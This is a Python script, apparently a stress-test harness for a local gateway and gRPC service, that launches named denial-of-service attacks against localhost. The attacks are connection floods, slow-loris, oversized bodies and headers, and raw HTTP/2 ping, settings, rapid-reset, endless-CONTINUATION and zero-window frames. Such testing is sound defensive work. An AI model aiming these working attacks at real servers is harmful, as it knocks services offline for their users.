"""Callers who mean no good. Usage: hostile.py ATTACK PORT; prints "held" at the worst moment, then waits for a line."""

import asyncio
import struct
import sys

PORT = int(sys.argv[2])


async def peer(*chunks, read=False, pause=0.0):
    """Connects, sends chunks whatever comes of it, and keeps the connection."""
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", PORT, limit=1024), 20)
    except (OSError, asyncio.TimeoutError):
        return None
    try:
        for chunk in chunks:
            writer.write(chunk)
            # A server that reads no more must not stop the attack.
            await asyncio.wait_for(writer.drain(), 2)
            if pause:
                await asyncio.sleep(pause)
        while read and await reader.read(65536):
            pass
    except (OSError, asyncio.TimeoutError):
        pass
    return writer


def post(length):
    return (
        f"POST /rpc HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: {length}\r\n\r\n"
    ).encode()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
CALL = b"".join(
    literal(name, value)
    for name, value in [
        (":method", "POST"), (":scheme", "http"), (":path", "/vessel.VesselService/FindAvailable"),
        (":authority", "a"), ("te", "trailers"), ("content-type", "application/grpc"),
    ]
)
MESSAGE = frame(0, 1, 0, b"\0\0\0\0\0")


def rapid_resets():
    streams = range(1, 4001, 2)
    return b"".join(frame(1, 4, s, CALL) + frame(3, 0, s, struct.pack(">I", 8)) for s in streams)


def unread_calls():
    # A window of nothing: answers can't be sent, and pile up if the server lets them.
    tight = frame(4, 0, 0, struct.pack(">HI", 4, 0))
    return tight + b"".join(
        frame(1, 4, s, CALL) + frame(0, 1, s, b"\0\0\0\0\0") for s in range(1, 20_001, 2)
    )


def endless_header():
    return frame(1, 0, 1, CALL) + frame(9, 0, 1, literal("x", "y" * 100) * 150) * 200


ATTACKS = {
    # HTTP/1.1, against the gateway.
    "connections": lambda: [peer() for _ in range(2000)],
    "slow-loris": lambda: [peer(b"POST /rpc HT", *[b"x"] * 10, pause=0.1) for _ in range(1000)],
    "large-bodies": lambda: [peer(post(1 << 20), *[b" " * 65536] * 15) for _ in range(48)],
    "too-large-bodies": lambda: [peer(post(1 << 40), *[b" " * 65536] * 64) for _ in range(48)],
    "large-headers": lambda: [peer(b"GET / HTTP/1.1\r\n" + b"x: y\r\n" * 40_000) for _ in range(100)],
    "slow-readers": lambda: [peer(*[b"GET /services HTTP/1.1\r\nhost: a\r\n\r\n" * 500] * 20) for _ in range(64)],
    "garbage": lambda: [peer(bytes(range(256)) * 100, read=True) for _ in range(200)],
    # HTTP/2, against the vessel service.
    "h2-connections": lambda: [peer(HELLO) for _ in range(2000)],
    "h2-pings": lambda: [peer(HELLO, *[frame(6, 0, 0, b"12345678") * 4000] * 10) for _ in range(32)],
    "h2-settings": lambda: [peer(HELLO, *[frame(4, 0, 0) * 4000] * 10) for _ in range(32)],
    "h2-resets": lambda: [peer(HELLO, rapid_resets()) for _ in range(64)],
    "h2-endless-header": lambda: [peer(HELLO, endless_header()) for _ in range(64)],
    "h2-unread-calls": lambda: [peer(HELLO, unread_calls()) for _ in range(64)],
    "h2-garbage": lambda: [peer(bytes(range(256)) * 100, read=True) for _ in range(200)],
}


async def main():
    peers = await asyncio.gather(*ATTACKS[sys.argv[1]]())
    print("held", len([each for each in peers if each]), flush=True)
    await asyncio.Event().wait()


asyncio.run(main())
